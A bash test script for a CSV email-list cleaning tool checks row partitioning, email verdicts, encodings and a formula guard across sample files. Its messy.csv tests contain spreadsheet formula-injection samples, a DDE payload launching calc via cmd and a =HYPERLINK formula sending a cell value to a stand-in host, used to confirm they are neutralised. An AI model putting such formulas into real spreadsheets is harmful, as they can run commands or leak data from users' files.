#!/bin/bash
# t_samples.sh - every file in lists/sample/ round-trips: each input row
# lands in exactly one output, in input order, under the input's header,
# with its original bytes; and the verdicts the sample was built to show.
. "$(dirname "$0")/lib.sh"

plan 113

# roundtrip NAME FILE DELIM - the checks every sample gets (7 tests):
# default run, then a --formula-guard off run for the byte comparison.
roundtrip() {
	local name=$1 in=$2 d=$3 n want
	local C=$T/$name.cleaned.csv R=$T/$name.rejected.csv
	scrub "$name" --offline "$in"
	scrub_ok "$name: exit status 0"
	n=$(data_rows "$in")
	is "$(($(data_rows "$C") + $(data_rows "$R")))" "$n" \
	    "$name: rows in ($n) = cleaned + rejected"
	ok "$name: every input row in exactly one output" rows_partition "$n" "$C" "$R"
	ok "$name: scrub_row ascending in the cleaned file" ascending "$C"
	ok "$name: scrub_row ascending in the rejected file" ascending "$R"
	# the header is padded, like every row, to the widest row
	want=$(header_raw "$in")$(printf "%$(($(nfields "$in" | sort -n | tail -1) - $(nfields "$in" | head -1)))s" '' | tr ' ' "$d")$d$(appended_header "$d")
	is "$(header_raw "$C")" "$want" "$name: cleaned header = input header + padding + appended names"
	is "$(header_raw "$R")" "$want" "$name: rejected header = input header + padding + appended names"
	scrub "$name-off" --offline --formula-guard off "$in"
	ok "$name: original cells byte-identical (--formula-guard off)" \
	    same_bytes "$in" 1 "$T/$name-off.cleaned.csv" "$T/$name-off.rejected.csv"
}

V=scrub_status,scrub_sub_status,scrub_action

# ---------------------------------------------------------------- contacts.csv
IN=$SAMPLES/contacts.csv
C=$T/contacts.cleaned.csv R=$T/contacts.rejected.csv
roundtrip contacts "$IN" ,
ok "contacts: original cells byte-identical under --formula-guard auto (+44 phones untouched)" \
    same_bytes "$IN" 1 "$C" "$R"
is "$(data_rows "$C")|$(data_rows "$R")" "32|8" "contacts: 32 cleaned, 8 rejected (standard policy)"
nok "contacts: no BOM on the cleaned output (the input has none)" has_bom "$C"
is "$(look 1 $V,scrub_email,scrub_free,scrub_role,scrub_disposable,scrub_checked "$C" "$R")" \
    "cleaned|valid|syntax_ok|keep|hannah.okafor@gmail.com|true|false|false|syntax" \
    "contacts row 1: valid free-mail address kept"
like "$(get "$C" 1 scrub_checked_at)" '^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$' \
    "contacts row 1: scrub_checked_at is a UTC ISO 8601 time"
is "$(look 19 $V,scrub_free "$C" "$R")" "cleaned|valid|syntax_ok|keep|false" \
    "contacts row 19: company address, scrub_free false"
is "$(look 10 $V,scrub_role "$C" "$R")" "cleaned|risky|role_based|keep|true" \
    "contacts row 10: info@ is role_based, kept under standard"
is "$(look 28 $V,scrub_role "$C" "$R")" "cleaned|risky|role_based|keep|true" \
    "contacts row 28: sales@ is role_based"
is "$(look 11 $V,scrub_did_you_mean "$C" "$R")" \
    "rejected|risky|possible_typo|remove|megan.castillo@gmail.com" \
    "contacts row 11: gmial.com is a typo, did-you-mean the full address"
is "$(look 16 $V,scrub_disposable "$C" "$R")" "rejected|risky|disposable|remove|true" \
    "contacts row 16: mailinator.com is disposable"
is "$(look 13 $V,scrub_email "$C" "$R")" "cleaned|valid|syntax_ok|keep|jonas.weber@xn--bcher-kva.de" \
    "contacts row 13: IDN domain bücher.de written as its A-label"
is "$(look 14 $V,scrub_role,scrub_disposable,scrub_free "$C" "$R")" \
    "rejected|invalid|bad_syntax|remove|||" \
    "contacts row 14: no @ is bad_syntax; role/disposable/free empty"
is "$(look 32 $V "$C" "$R")" "rejected|invalid|bad_syntax|remove" \
    "contacts row 32: a space in the local part is bad_syntax"
is "$(look 38 $V "$C" "$R")" "rejected|invalid|reserved_domain|remove" \
    "contacts row 38: example.com is reserved_domain"
is "$(look 15 $V,scrub_email,scrub_checked "$C" "$R")" "rejected|skipped|no_email|remove||" \
    "contacts row 15: empty email cell is skipped/no_email, nothing checked"
is "$(look 17 $V,scrub_duplicate_of "$C" "$R")" "rejected|skipped|duplicate|remove|9" \
    "contacts row 17: amara.nwosu@ duplicates row 9 (Amara.Nwosu@, case only)"
is "$(look 25 $V,scrub_duplicate_of,scrub_email "$C" "$R")" \
    "rejected|skipped|duplicate|remove|1|Hannah.Okafor@gmail.com" \
    "contacts row 25: Hannah.Okafor@GMAIL.com duplicates row 1, domain lower-cased"
is "$(get "$C" 9 scrub_duplicate_of)" "" "contacts row 9: the first occurrence has no scrub_duplicate_of"
is "$(get "$C" 6 Phone)" "+44 20 7946 0958" "contacts row 6: +44 phone cell unchanged"
is "$(get "$C" 5 Company)" "Atelier Dubois & Fils, SARL" "contacts row 5: quoted cell with a comma read as one cell"

# ---------------------------------------------------------------- excel-semicolon.csv
IN=$SAMPLES/excel-semicolon.csv
C=$T/excel.cleaned.csv R=$T/excel.rejected.csv
roundtrip excel "$IN" ';'
ok "excel: original cells byte-identical under auto (-12,50 untouched)" same_bytes "$IN" 1 "$C" "$R"
ok "excel: cleaned output starts with a UTF-8 BOM" has_bom "$C"
ok "excel: rejected output starts with a UTF-8 BOM" has_bom "$R"
ok "excel: cleaned output has CRLF line ends" all_crlf "$C"
ok "excel: rejected output has CRLF line ends" all_crlf "$R"
is "$(data_rows "$C")|$(data_rows "$R")" "10|2" "excel: 10 cleaned, 2 rejected"
is "$(look 1 $V,scrub_email "$C" "$R")" "cleaned|valid|syntax_ok|keep|juergen.massmann@web.de" \
    "excel row 1: column E-Mail-Adresse found by its German name"
is "$(get "$C" 1 Umsatz)" "1.234,56" "excel row 1: decimal comma cell unchanged"
is "$(get "$C" 5 Umsatz)" "-12,50" "excel row 5: negative amount not formula-guarded"
is "$(look 6 scrub_email "$C" "$R")" "cleaned|Katrin.Lange@web.de" \
    "excel row 6: local part kept as typed, domain lower-cased"
is "$(look 9 $V,scrub_did_you_mean "$C" "$R")" "rejected|risky|possible_typo|remove|uwe.schaefer@gmail.com" \
    "excel row 9: gmail.con suggests gmail.com"
is "$(look 10 $V "$C" "$R")" "rejected|skipped|no_email|remove" "excel row 10: empty cell is no_email"
is "$(look 11 scrub_email "$C" "$R")" "cleaned|stefan.krause@xn--mller-druck-thb.de" \
    "excel row 11: müller-druck.de as A-label"
is "$(get "$C" 2 Nachname)" "Schröder" "excel row 2: UTF-8 name unchanged"

# ---------------------------------------------------------------- google-sheets.csv
IN=$SAMPLES/google-sheets.csv
C=$T/google.cleaned.csv R=$T/google.rejected.csv
roundtrip google "$IN" ,
ok "google: original cells byte-identical under auto" same_bytes "$IN" 1 "$C" "$R"
is "$(data_rows "$C")|$(data_rows "$R")" "8|4" "google: 8 cleaned, 4 rejected"
is "$(look 1 scrub_email "$C" "$R")" "cleaned|rachel.kim@gmail.com" \
    "google row 1: 'E-mail 1 - Value' chosen, not 'E-mail 2 - Value'"
is "$(look 5 $V "$C" "$R")" "cleaned|risky|role_based|keep" "google row 5: support@ is role_based"
is "$(look 6 $V "$C" "$R")" "rejected|invalid|bad_syntax|remove" \
    "google row 6: two addresses joined by ' ::: ' are bad_syntax"
is "$(look 7 scrub_email "$C" "$R")" "cleaned|MICHAEL.OBRIEN@yahoo.com" "google row 7: upper-case domain lower-cased"
is "$(look 9 $V,scrub_did_you_mean "$C" "$R")" "rejected|risky|possible_typo|remove|chris.wallace@hotmail.com" \
    "google row 9: hotmial.com suggests hotmail.com"
is "$(look 11 $V,scrub_duplicate_of "$C" "$R")" "rejected|skipped|duplicate|remove|7" \
    "google row 11: michael.obrien@yahoo.com duplicates row 7"
is "$(look 12 $V "$C" "$R")" "rejected|skipped|no_email|remove" "google row 12: contact without address is no_email"
is "$(get "$C" 8 'Organization 1 - Name')" "田中商店" "google row 8: CJK cell unchanged"
is "$(get "$C" 3 Notes)" "Prefers Italian, replies slowly" "google row 3: quoted note with a comma"

# ---------------------------------------------------------------- tab-separated.tsv
IN=$SAMPLES/tab-separated.tsv
C=$T/tsv.cleaned.csv R=$T/tsv.rejected.csv
roundtrip tsv "$IN" "$(printf '\t')"
ok "tsv: original cells byte-identical under auto" same_bytes "$IN" 1 "$C" "$R"
is "$(data_rows "$C")|$(data_rows "$R")" "9|2" "tsv: 9 cleaned, 2 rejected"
is "$(CSV_DELIM=$(printf '\t') get "$C" 1 city)" "Portland, OR" "tsv row 1: comma inside a tab-separated cell"
is "$(CSV_DELIM=$(printf '\t') look 4 $V "$C" "$R")" "cleaned|risky|role_based|keep" "tsv row 4: noreply@ is role_based"
is "$(CSV_DELIM=$(printf '\t') look 8 $V,scrub_duplicate_of "$C" "$R")" "rejected|skipped|duplicate|remove|6" \
    "tsv row 8: TOM.REYES@OUTLOOK.COM duplicates row 6"
is "$(CSV_DELIM=$(printf '\t') look 10 $V "$C" "$R")" "rejected|risky|disposable|remove" "tsv row 10: yopmail.com is disposable"
ok "tsv: outputs have LF line ends" no_crlf "$C"

# ---------------------------------------------------------------- messy.csv
IN=$SAMPLES/messy.csv
C=$T/messy.cleaned.csv R=$T/messy.rejected.csv
roundtrip messy "$IN" ,
is "$(data_rows "$C")|$(data_rows "$R")" "13|3" "messy: 16 rows (blank lines skipped): 13 cleaned, 3 rejected"
is "$(look 1 $V,scrub_email "$C" "$R")" "cleaned|valid|syntax_ok|keep|joe.tran@outlook.com" \
    "messy row 1: 'Joe Tran <joe.tran@outlook.com>' unwrapped"
is "$(look 2 scrub_email "$C" "$R")" "cleaned|anna.kowalski@gmail.com" \
    "messy row 2: quoted display name unwrapped"
is "$(look 3 scrub_email "$C" "$R")" "cleaned|ben.ito@yahoo.com" "messy row 3: mailto: unwrapped"
is "$(look 4 $V,scrub_email "$C" "$R")" "cleaned|valid|syntax_ok|keep|carla.mendes@gmail.com" \
    "messy row 4: non-breaking spaces trimmed"
is "$(get "$C" 5 Notes)" 'Called on Monday.\nWants the Q3 catalogue, not Q2.\nCall back after 3pm.' \
    "messy row 5: multi-line quoted note intact"
is "$(get "$C" 6 Notes)" "'=HYPERLINK(\"http://promo.example/claim?id=\"&B7,\"Claim your prize\")" \
    "messy row 6: =HYPERLINK cell guarded with a leading '"
is "$(orig_part "$C" | awk -F '\t' '$1 == 6 { print $2 }')" \
    'Eve Marsh,eve.marsh@protonmail.com,"'"'"'=HYPERLINK(""http://promo.example/claim?id=""&B7,""Claim your prize"")",webform,' \
    "messy row 6: guarded cell re-quoted minimally, other cells byte-identical"
is "$(look 7 $V,scrub_email "$C" "$R")" "cleaned|valid|syntax_ok|keep|farid.saleh@hotmail.com" \
    "messy row 7: short row judged"
is "$(col "$C" scrub_row | paste -d ' ' - <(nfields "$C" | tail -n +2) | awk '$1 == 7 { print $2 }')" \
    "$((5 + NCOLS))" "messy row 7: short row padded to the widest row, 5 cells + $NCOLS"
is "$(col "$C" scrub_row | paste -d ' ' - <(nfields "$C" | tail -n +2) | awk '$1 == 8 { print $2 }')" \
    "$((5 + NCOLS))" "messy row 8: long row keeps its 5th cell (5 + $NCOLS)"
is "$(look 8 scrub_email "$C" "$R")" "cleaned|gwen.parry@btinternet.com" "messy row 8: long row judged on the email column"
is "$(look 9 scrub_email "$C" "$R")" "cleaned|hugo.lambert@free.fr" "messy row 9: spaces trimmed"
is "$(look 10 scrub_email "$C" "$R")" "cleaned|ines.moreau@laposte.net" "messy row 10: <...> unwrapped"
is "$(look 11 scrub_email "$C" "$R")" "cleaned|Jack.Reid@gmail.com" \
    "messy row 11: MAILTO: unwrapped (URI schemes are case-insensitive), domain lower-cased"
is "$(look 12 $V "$C" "$R")" "rejected|skipped|no_email|remove" "messy row 12: all-empty row is no_email"
is "$(get "$C" 13 Notes)" "'@SUM(1+1)*cmd|' /C calc'!A0" "messy row 13: @SUM DDE payload guarded"
is "$(look 14 $V,scrub_duplicate_of "$C" "$R")" "rejected|skipped|duplicate|remove|1" \
    "messy row 14: bare joe.tran@outlook.com duplicates the display-name row 1"
is "$(look 15 $V "$C" "$R")" "rejected|invalid|bad_syntax|remove" "messy row 15: two addresses in one cell"
is "$(get "$C" 16 Notes)" 'Address on file:\nStorgata 1\n0155 Oslo' "messy row 16: last record, multi-line, intact"
is "$(get "$C" 11 Notes)" 'He said "call me Jack"' "messy row 11: doubled quotes read as one"
